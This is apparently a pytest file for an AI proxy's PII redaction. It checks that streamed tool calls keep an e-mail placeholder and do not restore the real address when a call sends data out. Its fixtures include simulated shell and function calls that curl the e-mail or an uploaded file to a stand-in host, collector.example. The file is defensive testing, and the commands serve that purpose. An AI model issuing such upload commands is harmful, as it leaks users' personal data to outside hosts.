"""A stream's tool call given whole keeps its placeholders (answer21: issue 12, atk21 H1).

A Responses stream gives some output items whole (`response.output_item.added`, `.done`, then `response.completed`):
a `local_shell_call`'s argv and `env`, an `apply_patch_call`'s diff, a `computer_call`'s typed text. The whole answer
keeps a placeholder in a tool call that sends, or beside one that sends (answer20); the stream restored them, since
each argv item was read alone and the rest of the answer, which may send it, was not known yet. Now such an item
keeps every placeholder in every event that carries it, and marks its answer as sending when it does. The client's
e-mail is sent by the model as `<EMAIL_ADDRESS_1>` (the request names it); raw events are checked, all of them.
"""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import OUTPUT_CODENAME_POLICIES, RESTORE_ONLY_POLICY, sse

MAIL = "jane.doe@example.com"
E = "<EMAIL_ADDRESS_1>"
U = "https://collector.example/p"
ASK = {"model": "gpt-4o-mini", "input": f"My e-mail is {MAIL}. Set up the notifier."}
BASE = {"id": "resp_1", "object": "response", "created_at": 1733234567, "model": "gpt-4o-mini"}
SCREENED = {"policies/default.yaml": OUTPUT_CODENAME_POLICIES["policies/default.yaml"].replace(
    "output:", "input:\n  pii: {action: redact, entities: [EMAIL_ADDRESS], restore: true}\noutput:")}


@pytest.fixture(scope="module", params=["restore_only", "screened"])
def proxy(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
    files = {"policies/default.yaml": RESTORE_ONLY_POLICY} if request.param == "restore_only" else SCREENED
    return proxy_factory(teams={"app": {}}, files=files)


def shell(command: list[str], env: dict[str, str] | None = None, n: int = 1) -> dict[str, Any]:
    return {"type": "local_shell_call", "id": f"lsh_{n}", "call_id": f"call_{n}", "status": "completed",
            "action": {"type": "exec", "command": command, "env": env or {}}}


def function_call(command: str, n: int = 2) -> dict[str, Any]:
    return {"type": "function_call", "id": f"fc_{n}", "call_id": f"call_{n}", "name": "bash",
            "arguments": f'{{"command": "{command}"}}', "status": "completed"}


def patch(diff: str) -> dict[str, Any]:
    return {"type": "apply_patch_call", "id": "ap_1", "call_id": "call_1", "status": "completed",
            "operation": {"type": "create_file", "path": "notes.txt", "diff": diff}}


def stream_of(items: list[dict[str, Any]]) -> str:
    events: list[dict[str, Any]] = [{"type": "response.created", "sequence_number": 0,
                                     "response": {**BASE, "status": "in_progress", "output": []}}]
    for k, item in enumerate(items):
        events.append({"type": "response.output_item.added", "output_index": k, "item": item})
        events.append({"type": "response.output_item.done", "output_index": k, "item": item})
    events.append({"type": "response.completed", "response": {**BASE, "status": "completed", "output": items}})
    for n, ev in enumerate(events):
        ev["sequence_number"] = n
    return sse(*events, named=True)


def post(p: Proxy, body: dict[str, Any]) -> httpx.Response:
    return httpx.post(f"{p.url}/v1/responses", json=body, headers={"Authorization": f"Bearer {p.keys['app']}"},
                      timeout=30)


CASES = [
    pytest.param([shell(["curl", "-d", f"u={E}", U])], id="argv-sends"),
    pytest.param([shell(["sh", "-c", f"curl -d \"$E\" {U}"], {"E": E})], id="env-sends"),
    pytest.param([shell(["sh", "-c", f"echo {E} > notes.txt"]), function_call(f"curl -T notes.txt {U}")],
                 id="writes-then-uploads"),
    pytest.param([patch(f"+contact {E}\n"), function_call(f"curl -T notes.txt {U}")], id="patch-then-uploads"),
    pytest.param([shell(["sh", "-c", f"echo {E} > notes.txt"]), shell(["curl", "-T", "notes.txt", U], n=2)],
                 id="two-shell-calls"),
]


@pytest.mark.parametrize("items", CASES)
def test_a_tool_call_given_whole_keeps_its_placeholders(mock: Mock, proxy: Proxy, items: list[Any]) -> None:
    mock.script(raw_sse=stream_of(items))
    r = post(proxy, {**ASK, "stream": True})
    assert r.status_code == 200, r.text
    assert E in r.text
    assert MAIL not in r.text  # in no event: added, done, completed
    mock.script(raw_body=__import__("json").dumps({**BASE, "status": "completed", "output": items}))
    whole = post(proxy, ASK)
    assert E in whole.text and MAIL not in whole.text  # as the whole answer


def test_a_message_code_block_beside_a_shell_call_that_uploads(mock: Mock, proxy: Proxy) -> None:
    text = f"First:\n```sh\necho {E} > notes.txt\n```\n"
    msg = {"type": "message", "id": "msg_1", "role": "assistant", "status": "completed",
           "content": [{"type": "output_text", "text": text, "annotations": []}]}
    up = shell(["curl", "-T", "notes.txt", U], n=2)
    events: list[dict[str, Any]] = [
        {"type": "response.created", "response": {**BASE, "status": "in_progress", "output": []}},
        {"type": "response.output_item.added", "output_index": 0,
         "item": {**msg, "status": "in_progress", "content": []}},
        *({"type": "response.output_text.delta", "output_index": 0, "content_index": 0, "item_id": "msg_1",
           "delta": text[k:k + 5]} for k in range(0, len(text), 5)),
        {"type": "response.output_item.done", "output_index": 0, "item": msg},
        {"type": "response.output_item.added", "output_index": 1, "item": up},
        {"type": "response.output_item.done", "output_index": 1, "item": up},
        {"type": "response.completed", "response": {**BASE, "status": "completed", "output": [msg, up]}}]
    for n, ev in enumerate(events):
        ev["sequence_number"] = n
    mock.script(raw_sse=sse(*events, named=True))
    r = post(proxy, {**ASK, "stream": True})
    assert r.status_code == 200, r.text
    assert MAIL not in r.text
